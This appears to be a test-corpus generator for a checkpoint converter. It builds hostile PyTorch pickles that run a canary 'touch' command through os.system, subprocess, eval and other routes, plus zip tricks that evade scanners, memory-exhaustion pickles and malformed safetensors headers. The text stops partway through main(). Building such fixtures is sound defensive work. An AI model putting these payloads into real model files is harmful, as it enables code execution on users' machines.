#!/usr/bin/env python3
"""The malicious checkpoint corpus: checkpoints that attack a loader, made with Python's
`pickle` and `zipfile` (standard library only; torch is not needed).

    python3 tools/make_attacks.py --out DIR [--canary-dir DIR] [--list]

writes DIR/<name>.pth (DIR/<name>.safetensors for the safetensors attacks) for every attack
in ATTACKS (and DIR/attacks.json describing them, each with its `file`). Deterministic: the
same arguments give the same bytes.

Each file looks like a torch.save checkpoint (a zip archive, or the legacy stream) holding
a small state dict, with one attack in it:

- code attacks: a pickle that runs a command when Python unpickles it (torch.load with
  weights_only=False): os/posix/nt.system, subprocess, builtins eval/exec/getattr/__import__,
  importlib, runpy, torch.load of another hostile file, through GLOBAL, STACK_GLOBAL, INST and
  OBJ. The command creates the canary file CANARY_DIR/<name>; it must never appear when
  ckpt-convert reads the file.
- structure attacks: opcodes and archives that crash, exhaust or fool parsers: BUILD on
  non-dicts, SETITEM on a list, APPEND on a dict, out-of-range memo gets, a million nested
  MARKs, a LONG of 2 GB declared length, copyreg extension codes, storages and tensors whose
  numel, sizes, strides or offsets are negative, overflow or reach past their record, deep
  nesting, and zip tricks (duplicate names, local/central header mismatch, names outside the
  archive folder, the encryption flag bit, compression, an entry count that lies).
- safetensors attacks (`st_*`, struct and json only): one file per rule of the format's
  reader, each broken: a header length over 10^8 or past the end of the file, a file shorter
  than the length, a git-lfs pointer, invalid UTF-8, a JSON list or truncated JSON, NUL
  padding, a byte-order mark, a lone surrogate escape, nesting past 127 levels, an unknown or
  lower-case dtype, shape x dtype not the byte length or not whole bytes, offsets with a
  hole, an overlap, past the buffer or ending before they begin, trailing bytes,
  `__metadata__` not an object or with a non-string value, a tensor named twice, negative and
  float dimensions, a shape whose product overflows 64 bits. `judge_expect` is what
  tests/e2e/st_reader.py says of it.

`expect` is what ckpt-convert's one error line must contain (it names the global or the
defect); `flags` are the globals `inspect --json` must report with runs_code=true (code
attacks: inspect reads them and exits 0; structure attacks: inspect exits 1 with the same
message as the conversion, unless `inspect_reads`: it reads them and flags nothing);
`max_rss_mb` bounds the tool's peak memory on the resource attacks (a small pickle that
costs a lot); `torch_runs` marks the attacks that torch.load(weights_only=False) of torch
1.13 demonstrably executes (the canary appears: tests/e2e/cases_hostile.py checks it).
"""
import argparse
import collections
import io
import json
import pickle
import struct
import sys
import warnings
import zipfile
from pathlib import Path

ARCHIVE = 'archive'
DATE = (1980, 1, 1, 0, 0, 0)
LEGACY_MAGIC = 0x1950a86a20f9469cfc6c


# ----------------------------------------------------------------------------- pickling

class Global:
    """A global `module.name` written by name (GLOBAL, or STACK_GLOBAL from protocol 4),
    never imported: the generator needs neither torch nor the attacked modules."""

    def __init__(self, module, name):
        self.module, self.name = module, name

    def __call__(self, *args):      # pickle's save_reduce wants a callable
        raise TypeError('a stand-in for a global, not callable')


class Call:
    """Pickles as REDUCE(func, args) [+ BUILD state]: a call when unpickled."""

    def __init__(self, func, args, state=None):
        self.func, self.args, self.state = func, tuple(args), state

    def __reduce__(self):
        return (self.func, self.args) if self.state is None else (self.func, self.args, self.state)

    def __call__(self, *args):      # a call's result may be called in turn
        raise TypeError('a stand-in for a call, not callable')


class Raw:
    """Opcode bytes spliced into the pickle where this object stands; they must leave
    exactly one object on the stack (or break the pickle, which is the point)."""

    def __init__(self, opcodes):
        self.opcodes = opcodes


class Storage:
    def __init__(self, key, data, numel=None, cls='FloatStorage', location='cpu', legacy=False):
        self.key, self.data, self.cls, self.location, self.legacy = key, data, cls, location, legacy
        self.numel = len(data) // 4 if numel is None else numel


class Tensor:
    """torch._utils._rebuild_tensor_v2(storage, offset, size, stride, False, OrderedDict())."""

    def __init__(self, storage, offset=0, size=None, stride=None):
        self.storage, self.offset = storage, offset
        self.size = (storage.numel,) if size is None else size
        self.stride = (1,) if stride is None else stride

    def __reduce__(self):
        return (Global('torch._utils', '_rebuild_tensor_v2'),
                (self.storage, self.offset, self.size, self.stride, False, collections.OrderedDict()))


class Pickler(pickle._Pickler):
    """Python's own pickler, taught to write Global stand-ins, Raw splices and storages as
    torch.save's persistent ids."""

    dispatch = pickle._Pickler.dispatch.copy()

    def save_stand_in_global(self, obj):
        if self.proto >= 4:
            self.save(obj.module)
            self.save(obj.name)
            self.write(pickle.STACK_GLOBAL)
        else:
            self.write(pickle.GLOBAL + f'{obj.module}\n{obj.name}\n'.encode())
        self.memoize(obj)

    def save_raw(self, obj):
        self.write(obj.opcodes)

    dispatch[Global] = save_stand_in_global
    dispatch[Raw] = save_raw

    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            pid = ('storage', Global('torch', obj.cls), obj.key, obj.location, obj.numel)
            return pid + (None,) if obj.legacy else pid
        return None


def dumps(obj, protocol=2):
    out = io.BytesIO()
    Pickler(out, protocol).dump(obj)
    return out.getvalue()


def unicode(text):
    raw = text.encode()
    return pickle.BINUNICODE + struct.pack('<I', len(raw)) + raw


def state_dict(storage):
    """A DataParallel-style state dict with _metadata, over STORAGE (4 floats)."""
    sd = collections.OrderedDict([('module.fc.weight', Tensor(storage))])
    sd._metadata = collections.OrderedDict([('', {'version': 1}), ('module', {'version': 1}),
                                            ('module.fc', {'version': 1})])
    return sd


FLOATS = struct.pack('<4f', 0.5, -1.0, 2.0, 3.25)


# ----------------------------------------------------------------------------- containers

def zip_archive(records, compress=()):
    """A zip archive as torch.save lays it out: RECORDS [(name under ARCHIVE/, bytes)],
    stored (or deflated for names in COMPRESS), fixed timestamps."""
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter('ignore')      # duplicate names are one of the attacks
        with zipfile.ZipFile(out, 'w') as z:
            for name, data in records:
                info = zipfile.ZipInfo(name if name.startswith(('../', 'evil')) else f'{ARCHIVE}/{name}',
                                       date_time=DATE)
                info.compress_type = zipfile.ZIP_DEFLATED if name in compress else zipfile.ZIP_STORED
                info.external_attr = 0o644 << 16
                z.writestr(info, data)
    return out.getvalue()


def checkpoint(obj, storages, protocol=2, compress=()):
    records = [('data.pkl', dumps(obj, protocol)), ('byteorder', b'little')]
    records += [(f'data/{s.key}', s.data) for s in storages]
    records.append(('version', b'3\n'))
    return zip_archive(records, compress)


def legacy_checkpoint(obj, storages):
    """torch < 1.6's stream: magic, protocol, sys_info, the object, the keys, the bytes."""
    sys_info = {'protocol_version': 1001, 'little_endian': True,
                'type_sizes': {'short': 2, 'int': 4, 'long': 4}}
    out = pickle.dumps(LEGACY_MAGIC, 2) + pickle.dumps(1001, 2) + pickle.dumps(sys_info, 2)
    out += dumps(obj) + pickle.dumps([s.key for s in storages], 2)
    for s in storages:
        out += struct.pack('<q', s.numel) + s.data
    return out


def zip_records(raw):
    """[(ZipInfo, offset of its local header)] of RAW."""
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        return [(info, info.header_offset) for info in z.infolist()]


def central_offsets(raw):
    """Offset of each central directory entry, in order."""
    end = raw.rindex(b'PK\x05\x06')
    count, _, start = struct.unpack('<HII', raw[end + 10:end + 20])
    offsets, pos = [], start
    for _ in range(count):
        offsets.append(pos)
        name_len, extra_len, comment_len = struct.unpack('<HHH', raw[pos + 28:pos + 34])
        pos += 46 + name_len + extra_len + comment_len
    return offsets


# ----------------------------------------------------------------------------- attacks

class Attack:
    def __init__(self, name, summary, make, expect, flags=(), torch_runs=False,
                 inspect_reads=False, max_rss_mb=None, suffix='.pth', judge_expect=None):
        self.name, self.summary, self.make, self.expect = name, summary, make, expect
        self.suffix = suffix                # the file's name is NAME + SUFFIX
        self.judge_expect = judge_expect    # safetensors: what tests/e2e/st_reader.py says
        self.flags = tuple(flags)           # globals inspect must flag (code attacks)
        self.torch_runs = torch_runs        # torch.load(weights_only=False) runs the payload
        self.inspect_reads = inspect_reads or bool(flags)  # inspect exits 0 (else 1, same message)
        self.max_rss_mb = max_rss_mb        # resource attacks: the tool's peak memory bound

    @property
    def file_name(self):
        return self.name + self.suffix

    @property
    def kind(self):
        return 'code' if self.flags else 'structure'

    def build(self, canary_dir, out_dir=None):
        return self.make(Context(self.name, canary_dir, out_dir))


class Context:
    def __init__(self, name, canary_dir, out_dir):
        self.name = name
        self.canary = str(Path(canary_dir) / name)
        self.out_dir = Path(out_dir) if out_dir else Path(canary_dir)

    @property
    def touch(self):
        return f'touch {self.canary}'


ATTACKS = []


def attack(expect, flags=(), torch_runs=False, inspect_reads=False, max_rss_mb=None,
           suffix='.pth', judge_expect=None):
    def register(make):
        ATTACKS.append(Attack(make.__name__, (make.__doc__ or '').strip(), make, expect, flags,
                              torch_runs, inspect_reads, max_rss_mb, suffix, judge_expect))
        return make
    return register


def with_payload(payload, protocol=2):
    """A training checkpoint whose 'extra' entry is PAYLOAD."""
    storage = Storage('0', FLOATS)
    return checkpoint({'state_dict': state_dict(storage), 'epoch': 3, 'extra': payload},
                      [storage], protocol)


# --- code: the classic payloads, by every route to a global ------------------------------

@attack("global 'os.system'", flags=['os.system'], torch_runs=True)
def os_system_global(c):
    """GLOBAL os.system, REDUCE ('touch CANARY',): the classic pickle payload."""
    return with_payload(Call(Global('os', 'system'), [c.touch]))


@attack("global 'posix.system'", flags=['posix.system'], torch_runs=True)
def posix_system_stack_global(c):
    """STACK_GLOBAL (protocol 4) posix.system: what pickle.dumps writes for os.system on Linux."""
    return with_payload(Call(Global('posix', 'system'), [c.touch]), protocol=4)


@attack("global 'nt.system'", flags=['nt.system'])
def nt_system_global(c):
    """GLOBAL nt.system: os.system as pickled on Windows (not importable here)."""
    return with_payload(Call(Global('nt', 'system'), [c.touch]))


@attack("global 'subprocess.run'", flags=['subprocess.run'], torch_runs=True)
def subprocess_run(c):
    """subprocess.run(['touch', CANARY])."""
    return with_payload(Call(Global('subprocess', 'run'), [['touch', c.canary]]))


@attack("global 'builtins.eval'", flags=['builtins.eval'], torch_runs=True)
def builtins_eval(c):
    """builtins.eval of a string that imports os and runs the command."""
    return with_payload(Call(Global('builtins', 'eval'),
                             [f"__import__('os').system({c.touch!r})"]))


@attack("global 'builtins.exec'", flags=['builtins.exec'], torch_runs=True)
def builtins_exec(c):
    """builtins.exec of a statement."""
    return with_payload(Call(Global('builtins', 'exec'), [f"import os; os.system({c.touch!r})"]))


@attack("global 'builtins.getattr'", flags=['builtins.getattr', 'builtins.__import__'],
        torch_runs=True)
def builtins_getattr(c):
    """getattr(__import__('os'), 'system')('touch CANARY'): no global names os.system."""
    os_module = Call(Global('builtins', '__import__'), ['os'])
    system = Call(Global('builtins', 'getattr'), [os_module, 'system'])
    return with_payload(Call(system, [c.touch]))


@attack("global 'builtins.__import__'", flags=['builtins.__import__', 'builtins.getattr'],
        torch_runs=True)
def builtins_import(c):
    """__import__('os') first, then getattr on it through the memo."""
    storage = Storage('0', FLOATS)
    os_module = Call(Global('builtins', '__import__'), ['os'])
    system = Call(Global('builtins', 'getattr'), [os_module, 'system'])
    return checkpoint({'state_dict': state_dict(storage), 'os': os_module,
                       'extra': Call(system, [c.touch])}, [storage])


@attack("global 'importlib.import_module'",
        flags=['importlib.import_module', 'builtins.getattr'], torch_runs=True)
def importlib_import_module(c):
    """importlib.import_module('os'), then getattr(…, 'system')(…)."""
    storage = Storage('0', FLOATS)
    os_module = Call(Global('importlib', 'import_module'), ['os'])
    system = Call(Global('builtins', 'getattr'), [os_module, 'system'])
    return checkpoint({'state_dict': state_dict(storage), 'os': os_module,
                       'extra': Call(system, [c.touch])}, [storage])


@attack("global 'runpy._run_code'", flags=['runpy._run_code'], torch_runs=True)
def runpy_run_code(c):
    """runpy._run_code(source, {}): exec by another name."""
    return with_payload(Call(Global('runpy', '_run_code'),
                             [f"import os; os.system({c.touch!r})", {}]))


@attack("global 'torch.load'", flags=['torch.load'], torch_runs=True)
def torch_load_nested(c):
    """torch.load of a second hostile file (written beside this one) from inside the pickle."""
    inner = c.out_dir / 'torch_load_nested.inner.pkl'
    inner.parent.mkdir(parents=True, exist_ok=True)
    inner.write_bytes(dumps(Call(Global('os', 'system'), [c.touch])))
    return with_payload(Call(Global('torch', 'load'), [str(inner)]))


@attack("global 'os.system'", flags=['os.system'], torch_runs=True)
def inst_os_system(c):
    """INST os system (protocol 0): call and global in one opcode."""
    return with_payload(Raw(pickle.MARK + unicode(c.touch) + pickle.INST + b'os\nsystem\n'))


@attack("global 'subprocess.check_call'", flags=['subprocess.check_call'], torch_runs=True)
def obj_subprocess_check_call(c):
    """OBJ with subprocess.check_call as the class: OBJ calls it with the items above MARK."""
    return with_payload(Raw(pickle.MARK + pickle.GLOBAL + b'subprocess\ncheck_call\n' +
                            pickle.MARK + unicode('touch') + unicode(c.canary) + pickle.LIST +
                            pickle.OBJ))


@attack("global 'os.system'", flags=['os.system'], torch_runs=True)
def legacy_os_system(c):
    """The legacy (torch < 1.6) stream with os.system in its object pickle."""
    storage = Storage('0', FLOATS, legacy=True)
    return legacy_checkpoint({'state_dict': state_dict(storage),
                              'extra': Call(Global('os', 'system'), [c.touch])}, [storage])


# --- structure: opcodes no pickler writes ------------------------------------------------

@attack('BUILD on a list')
def build_on_list(c):
    """BUILD on a list: Python would setattr on it; state only belongs on objects."""
    return with_payload(Raw(pickle.EMPTY_LIST + pickle.EMPTY_DICT + pickle.BUILD))


@attack('BUILD on a global')
def build_on_global(c):
    """BUILD on a class: monkeypatching collections.OrderedDict.__init__ with os.system."""
    return with_payload(Raw(pickle.GLOBAL + b'collections\nOrderedDict\n' + pickle.MARK +
                            unicode('__init__') + pickle.GLOBAL + b'os\nsystem\n' +
                            pickle.DICT + pickle.BUILD))


@attack('SETITEM on a list')
def setitem_on_list(c):
    """SETITEM on a list."""
    return with_payload(Raw(pickle.EMPTY_LIST + unicode('key') + unicode('value') + pickle.SETITEM))


@attack('APPEND on a dict')
def append_on_dict(c):
    """APPEND on a dict."""
    return with_payload(Raw(pickle.EMPTY_DICT + unicode('item') + pickle.APPEND))


@attack('memo key 2147483647 was never stored')
def memo_get_out_of_range(c):
    """LONG_BINGET of a memo index never stored (2**31 - 1)."""
    return with_payload(Raw(pickle.LONG_BINGET + struct.pack('<I', 2**31 - 1)))


@attack('is not UTF-8 (Python\'s pickle, and so torch.load, refuses it too)')
def str_not_utf8(c):
    """A str (BINUNICODE) whose bytes end in a lone 0xe4: pickle.loads, so torch.load, raises
    UnicodeDecodeError; an output that kept it would load nowhere either."""
    return with_payload(Raw(pickle.BINUNICODE + struct.pack('<I', 3) + b'ab\xe4'))


@attack('more than 4096 nested MARKs')
def nested_marks_million(c):
    """A million MARKs in a row: a stack of stacks."""
    return with_payload(Raw(pickle.MARK * 1_000_000 + pickle.NONE))


@attack('LONG4 of 2147483647 bytes exceeds the limit')
def long4_2gb(c):
    """LONG4 declaring a 2 GB integer (0x7fffffff bytes)."""
    return with_payload(Raw(pickle.LONG4 + struct.pack('<i', 2**31 - 1) + b'\x01' * 16))


@attack('copyreg extension codes')
def ext1_extension_code(c):
    """EXT1: a global by copyreg extension number, resolved through a registry at load time."""
    return with_payload(Raw(pickle.EXT1 + b'\x01'))


@attack('persistent id of unknown kind')
def persistent_id_not_storage(c):
    """A persistent id that is not a storage: loaders that resolve other kinds run hooks."""
    return with_payload(Raw(pickle.MARK + unicode('module') + unicode('os') + pickle.TUPLE +
                            pickle.BINPERSID))


@attack('nested deeper than 1000 levels')
def nested_lists_100k(c):
    """A list nested 100000 deep: recursive readers run out of stack."""
    depth = 100_000
    return with_payload(Raw(pickle.EMPTY_LIST * depth + pickle.APPEND * (depth - 1)))


# --- structure: a small pickle that costs a lot of memory ---------------------------------

@attack('memo key 4094 was never stored', max_rss_mb=512)
def memo_sparse_stride(c):
    """60000 memo puts 4095 apart (LONG_BINPUT, 5 bytes each), then a get of a key never
    stored: a decoder that keeps its memo in an array indexed by key allocates 2 GB."""
    puts = b''.join(pickle.LONG_BINPUT + struct.pack('<I', k * 4095) for k in range(1, 60_001))
    return with_payload(Raw(pickle.EMPTY_LIST + puts + pickle.POP + pickle.LONG_BINGET +
                            struct.pack('<I', 4094)))


@attack('the pickle would grow past', inspect_reads=True, max_rss_mb=512)
def billion_laughs_int(c):
    """A 4 KB integer used 500000 times (DUP, 1 byte each) in a list: Python never memoizes
    ints, so a re-encoding writes it out at every use, 2 GB from a 500 KB file."""
    number = pickle.LONG4 + struct.pack('<i', 4096) + b'\x7f' * 4096
    return with_payload(Raw(pickle.EMPTY_LIST + pickle.MARK + number + pickle.DUP * 499_999 +
                            pickle.APPENDS))


# --- structure: storages and tensors that lie about their bytes ---------------------------

def with_tensor(storage, **view):
    return checkpoint({'state_dict': collections.OrderedDict([('module.fc.weight',
                                                               Tensor(storage, **view))])},
                      [storage])


@attack("holds 16 bytes, but its 1000000 elements need 4000000")
def storage_numel_exceeds_record(c):
    """A storage id claiming 1000000 floats over a 16-byte record."""
    return with_tensor(Storage('0', FLOATS, numel=1_000_000), size=(4,))


@attack("storage '0' has an invalid element count")
def storage_numel_negative(c):
    """A storage id with numel -1."""
    return with_tensor(Storage('0', FLOATS, numel=-1), size=(4,))


@attack('negative size or stride in dimension 0')
def negative_size(c):
    """A tensor of size (-1,)."""
    return with_tensor(Storage('0', FLOATS), size=(-1,))


@attack('negative size or stride in dimension 1')
def negative_stride(c):
    """A tensor with stride (1, -1): reads before its storage."""
    return with_tensor(Storage('0', FLOATS), size=(2, 2), stride=(2, -1))


@attack('negative storage offset -4')
def negative_offset(c):
    """A tensor at storage offset -4."""
    return with_tensor(Storage('0', FLOATS), offset=-4, size=(4,))


@attack('tensor sizes and strides overflow 64 bits')
def overflowing_size_stride(c):
    """Size 2**62 with stride 2**62: the extent wraps around 64 bits to something small."""
    return with_tensor(Storage('0', FLOATS), size=(2**62, 1), stride=(2**62, 1))


@attack('tensor sizes and strides overflow 64 bits')
def overflowing_offset(c):
    """Storage offset 2**63 - 1: offset times the element size wraps around."""
    return with_tensor(Storage('0', FLOATS), offset=2**63 - 1, size=(1,))


# --- structure: zip tricks that make two readers see two different files -------------------

@attack("two records named 'archive/data.pkl'", flags=())
def zip_duplicate_names(c):
    """Two data.pkl records: a harmless first one for scanners, os.system in the second
    (Python's zipfile reads the last, others the first)."""
    storage = Storage('0', FLOATS)
    benign = dumps({'state_dict': state_dict(storage)})
    hostile = dumps({'state_dict': state_dict(storage),
                     'extra': Call(Global('os', 'system'), [c.touch])})
    return zip_archive([('data.pkl', benign), ('data.pkl', hostile), ('byteorder', b'little'),
                        ('data/0', FLOATS), ('version', b'3\n')])


@attack('local header disagrees with the central directory', torch_runs=True)
def zip_local_central_mismatch(c):
    """data.pkl's local header names another record than its central directory entry (and
    holds os.system): readers that walk local headers and readers that trust the central
    directory see different archives; torch's reader loads it."""
    raw = bytearray(with_payload(Call(Global('os', 'system'), [c.touch])))
    info, local = next(r for r in zip_records(bytes(raw)) if r[0].filename.endswith('data.pkl'))
    name_at = local + 30
    assert raw[name_at:name_at + len(info.filename)] == info.filename.encode()
    raw[name_at + len(info.filename) - 3:name_at + len(info.filename)] = b'pkX'
    return bytes(raw)


@attack("zip record '../../tmp/evil.pkl' lies outside the archive folder 'archive/'")
def zip_outside_prefix(c):
    """A record named ../../tmp/evil.pkl beside archive/: path traversal for extractors, a
    second pickle for loaders that take any *.pkl."""
    storage = Storage('0', FLOATS)
    return zip_archive([('data.pkl', dumps({'state_dict': state_dict(storage)})),
                        ('data/0', FLOATS), ('version', b'3\n'),
                        ('../../tmp/evil.pkl', dumps(Call(Global('os', 'system'), [c.touch])))])


@attack("zip record 'archive/data.pkl' is marked encrypted")
def zip_encrypted_flag(c):
    """The encryption flag bit set on data.pkl, which is not encrypted and holds os.system:
    zip readers disagree on such a record (Python's zipfile asks for a password, so scanners
    built on it skip the record; readers that ignore the bit load it; torch 1.13 refuses)."""
    raw = bytearray(with_payload(Call(Global('os', 'system'), [c.touch])))
    info, local = next(r for r in zip_records(bytes(raw)) if r[0].filename.endswith('data.pkl'))
    index = [i.filename for i, _ in zip_records(bytes(raw))].index(info.filename)
    central = central_offsets(bytes(raw))[index]
    for flags_at in (local + 6, central + 8):
        flags, = struct.unpack('<H', raw[flags_at:flags_at + 2])
        raw[flags_at:flags_at + 2] = struct.pack('<H', flags | 0x0001)
    return bytes(raw)


@attack('record is compressed (method 8)', torch_runs=True)
def zip_compressed_pickle(c):
    """data.pkl deflated, holding os.system: byte-pattern scanners see no opcodes; torch's
    reader inflates and loads it."""
    storage = Storage('0', FLOATS)
    return checkpoint({'state_dict': state_dict(storage),
                       'extra': Call(Global('os', 'system'), [c.touch])}, [storage],
                      compress=('data.pkl',))


@attack('zip central directory claims 65534 entries in')
def zip_entry_count_lie(c):
    """The end record claims 65534 entries: readers that trust it over-allocate or over-read."""
    raw = bytearray(with_payload(0))
    end = raw.rindex(b'PK\x05\x06')
    raw[end + 8:end + 12] = struct.pack('<HH', 0xfffe, 0xfffe)
    return bytes(raw)


# --- structure: safetensors files that break a rule of the format's reader -----------------

ST = '.safetensors'
ST_FLOATS = struct.pack('<6f', 0.5, -1.0, 2.0, 3.25, 4.0, -8.5)   # 'a' [2, 2], then 'b' [2]


def st_entries(**changes):
    """The header of a good two-tensor file ('a' F32 [2, 2] at [0, 16], 'b' F32 [2] at [16,
    24]), with each keyword's tensor entry updated by its dict (None drops the tensor)."""
    entries = {'a': {'dtype': 'F32', 'shape': [2, 2], 'data_offsets': [0, 16]},
               'b': {'dtype': 'F32', 'shape': [2], 'data_offsets': [16, 24]}}
    for name, change in changes.items():
        if change is None:
            del entries[name]
        else:
            entries[name] = dict(entries[name], **change)
    return entries


def st_text(header):
    """HEADER (a dict, or JSON text as str or bytes) as the writer lays it out: compact JSON
    padded with spaces to a multiple of 8."""
    if isinstance(header, dict):
        header = json.dumps(header, separators=(',', ':'))
    if isinstance(header, str):
        header = header.encode()
    return header + b' ' * (-len(header) % 8)


def safetensors(header, data=ST_FLOATS, length=None):
    """A safetensors file: LENGTH (default: the padded header's) as 8 bytes little-endian,
    the header (see st_text), DATA."""
    text = st_text(header)
    return struct.pack('<Q', len(text) if length is None else length) + text + data


@attack('header length 100000001 is over', suffix=ST, judge_expect='header too large')
def st_header_over_limit(c):
    """A header length of 10^8 + 1 (the reference reader's limit is 10^8) before a real
    header: a reader that allocates N bytes first asks for 100 MB."""
    return safetensors(st_entries(), length=100_000_001)


@attack('runs past the end of the file', suffix=ST, judge_expect='invalid header length')
def st_header_past_end(c):
    """A header length of 4096 in a file of 120 bytes: reading it runs off the end."""
    return safetensors(st_entries(), length=4096)


@attack('only 5 bytes, too few for any of them', suffix=ST, judge_expect='header too small')
def st_shorter_than_length(c):
    """Five bytes: the start of a header length and nothing more."""
    return b'\x40\x00\x00\x00\x00'


@attack('git lfs pull', suffix=ST, judge_expect='header too large')
def st_git_lfs_pointer(c):
    """The git-lfs pointer a clone without `git lfs pull` holds in place of the file."""
    return (b'version https://git-lfs.github.com/spec/v1\n'
            b'oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\n'
            b'size 24\n')


@attack('not valid UTF-8', suffix=ST, judge_expect='invalid UTF-8')
def st_header_invalid_utf8(c):
    """A tensor name holding 0xff, which no UTF-8 text holds: a reader that decodes leniently
    gets another name."""
    return safetensors(st_text(st_entries()).replace(b'"b"', b'"\xff"'))


@attack('the header is a list, not a JSON object', suffix=ST,
        judge_expect='not an object')
def st_header_json_list(c):
    """The two tensor entries in a JSON list instead of an object."""
    return safetensors(json.dumps(list(st_entries().values()), separators=(',', ':')))


@attack('invalid JSON', suffix=ST, judge_expect='invalid JSON')
def st_header_truncated_json(c):
    """The header's JSON cut short ('b' is missing its close), its length adjusted."""
    return safetensors(json.dumps(st_entries(), separators=(',', ':'))[:-3])


@attack("unknown dtype 'F31'", suffix=ST, judge_expect='unknown dtype')
def st_unknown_dtype(c):
    """A dtype string the format does not have."""
    return safetensors(st_entries(b={'dtype': 'F31'}))


@attack('span 16 bytes, but shape [3] of F32 takes 12', suffix=ST, judge_expect='takes 12')
def st_shape_dtype_size_mismatch(c):
    """'a' declares 3 floats over its 16 bytes: a reader trusting the shape reads 12 of
    them, one trusting the offsets builds a tensor of the wrong size."""
    return safetensors(st_entries(a={'shape': [3]}))


@attack('leave bytes [16, 20) of the data to no tensor', suffix=ST, judge_expect='a hole')
def st_offsets_hole(c):
    """Four unowned bytes between 'a' and 'b': room to smuggle data past a reader."""
    return safetensors(st_entries(b={'data_offsets': [20, 28]}),
                       ST_FLOATS[:16] + b'EVIL' + ST_FLOATS[16:])


@attack("overlap tensor 'a', which ends at 16", suffix=ST, judge_expect='an overlap')
def st_offsets_overlap(c):
    """'b' at [8, 16] reads the second half of 'a': two tensors over the same bytes."""
    return safetensors(st_entries(b={'data_offsets': [8, 16]}), ST_FLOATS[:16])


@attack('run past the end of the file', suffix=ST, judge_expect='not fully covered')
def st_offsets_past_buffer(c):
    """'b' at [16, 24] in a data buffer of 20 bytes: a reader trusting the offsets reads
    past the end of the file."""
    return safetensors(st_entries(), ST_FLOATS[:20])


@attack("4 bytes after the last tensor's data belong to no tensor", suffix=ST,
        judge_expect='not fully covered')
def st_trailing_bytes(c):
    """Four bytes after the last tensor: the tail of a polyglot file."""
    return safetensors(st_entries(), ST_FLOATS + b'\x7fELF')


@attack("__metadata__: the value of 'format' is a number, not a string", suffix=ST,
        judge_expect='is not a string')
def st_metadata_value_not_string(c):
    """`__metadata__` must map strings to strings: {"format": 1}."""
    return safetensors(dict(__metadata__={'format': 1}, **st_entries()))


@attack('__metadata__: is a list, not an object of strings', suffix=ST,
        judge_expect='not an object')
def st_metadata_not_object(c):
    """`__metadata__` a list of strings instead of an object."""
    return safetensors(dict(__metadata__=['format', 'pt'], **st_entries()))


@attack("tensor 'a': named twice in the header", suffix=ST, judge_expect='appears twice')
def st_duplicate_tensor_key(c):
    """'a' twice with different offsets: the reference keeps the last, another reader the
    first, so two readers see different tensors."""
    body = json.dumps(st_entries(), separators=(',', ':'))[1:-1]
    first = json.dumps({'dtype': 'F32', 'shape': [4], 'data_offsets': [8, 24]},
                       separators=(',', ':'))
    return safetensors('{"a":' + first + ',' + body + '}')


@attack("tensor 'b': shape is not a list of non-negative 64-bit integers", suffix=ST,
        judge_expect='shape [-2]')
def st_negative_shape(c):
    """Shape [-2]: a negative dimension, which a signed reader could multiply into a small
    positive size."""
    return safetensors(st_entries(b={'shape': [-2]}))


@attack("tensor 'b': shape is not a list of non-negative 64-bit integers", suffix=ST,
        judge_expect='shape [2.0]')
def st_float_shape(c):
    """Shape [2.0]: a float where the format wants an integer."""
    return safetensors(st_entries(b={'shape': [2.0]}))


@attack("tensor 'b': data_offsets [16, 8] end before they begin", suffix=ST,
        judge_expect='end before begin')
def st_begin_after_end(c):
    """'b' at [16, 8]: END - BEGIN wraps around in unsigned arithmetic."""
    return safetensors(st_entries(b={'data_offsets': [16, 8]}), ST_FLOATS[:16])


@attack("shape [4294967296, 4294967296, 2] of F32 overflows 64 bits", suffix=ST,
        judge_expect='overflows 64 bits')
def st_shape_product_overflow(c):
    """Shape [2^32, 2^32, 2]: the element count wraps around 64 bits to 0, which an
    unchecked reader finds consistent with an empty byte range."""
    return safetensors(st_entries(b={'shape': [2**32, 2**32, 2], 'data_offsets': [16, 16]}),
                       ST_FLOATS[:16])


@attack("shape [3] of F4 is 12 bits, not whole bytes", suffix=ST, judge_expect='not whole bytes')
def st_f4_not_whole_bytes(c):
    """Three 4-bit F4 elements: 12 bits, which no byte range holds (the reference's
    MisalignedSlice)."""
    return safetensors(st_entries(b={'dtype': 'F4', 'shape': [3], 'data_offsets': [16, 18]}),
                       ST_FLOATS[:18])


@attack("unknown dtype 'f32', did you mean 'F32'?", suffix=ST, judge_expect="unknown dtype 'f32'")
def st_dtype_lowercase(c):
    """`f32`: dtype strings are exact and case-sensitive."""
    return safetensors(st_entries(b={'dtype': 'f32'}))


@attack('invalid JSON: a NUL byte', suffix=ST, judge_expect='invalid JSON')
def st_header_nul_padding(c):
    """The header padded with NUL bytes instead of spaces: C readers stop at the first NUL
    and see valid JSON; the reference refuses any byte after the object but whitespace."""
    text = json.dumps(st_entries(), separators=(',', ':')).encode()
    return safetensors(text + b'\x00' * (8 - len(text) % 8))


@attack('invalid JSON: a byte-order mark before the header', suffix=ST,
        judge_expect='invalid JSON')
def st_header_byte_order_mark(c):
    """A UTF-8 byte-order mark before the header's `{`, which serde_json refuses and lenient
    JSON readers skip."""
    return safetensors(b'\xef\xbb\xbf' + json.dumps(st_entries(), separators=(',', ':')).encode())


@attack('surrogate', suffix=ST, judge_expect='lone surrogate')
def st_lone_surrogate_escape(c):
    r"""A tensor named "\ud800": a lone surrogate escape, which serde_json refuses and
    Python's json turns into a string no UTF-8 encoder can write."""
    return safetensors(st_text(st_entries()).replace(b'"b"', b'"\\ud800"'))


@attack('nested deeper than 127 levels', suffix=ST, judge_expect='nested deeper than 127')
def st_json_nested_too_deep(c):
    """An unknown field of 'b' holding lists 200 deep: readers ignore the field, but a
    recursive JSON parser descends it first (the reference stops at 128 levels)."""
    text = json.dumps(st_entries(), separators=(',', ':'))
    return safetensors(text.replace('"dtype"', '"extra":' + '[' * 200 + ']' * 200 + ',"dtype"', 1))


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split('\n\n')[0])
    ap.add_argument('--out', help='folder to write the attack files into')
    ap.add_argument('--canary-dir', help='where code attacks would create their canary files '
                    '(default: OUT/canaries)')
    ap.add_argument('--list', action='store_true', help='print the attack names and exit')
    args = ap.parse_args(argv)
    if args.list:
        print('\n'.join(a.name for a in ATTACKS))
        return 0
    if not args.out:
        ap.error('--out is required')
    out = Path(args.out).resolve()
    canaries = Path(args.canary_dir).resolve() if args.canary_dir else out / 'canaries'
    out.mkdir(parents=True, exist_ok=True)
    canaries.mkdir(parents=True, exist_ok=True)
    table = []
    for a in ATTACKS:
